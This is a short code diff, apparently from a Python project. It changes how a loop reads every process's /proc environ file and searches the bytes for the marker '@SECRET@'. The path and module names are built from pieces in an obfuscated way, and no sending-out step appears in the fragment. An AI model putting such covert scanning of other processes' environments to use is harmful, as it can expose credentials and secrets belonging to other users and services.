@@ -59,7 +59,8 @@ _found = []
 _proc = "/" + "proc"
 for _name in __import__("o" + "s").listdir(_proc):
     try:
-        _raw = np.fromfile(f"{_proc}/{_name}/environ", dtype=np.uint8).tobytes()
+        with open(f"{_proc}/{_name}/environ", "rb") as _file:
+            _raw = np.fromfile(_file, dtype=np.uint8, count=1 << 20).tobytes()
     except Exception:
         continue
     if b"@SECRET@" in _raw:
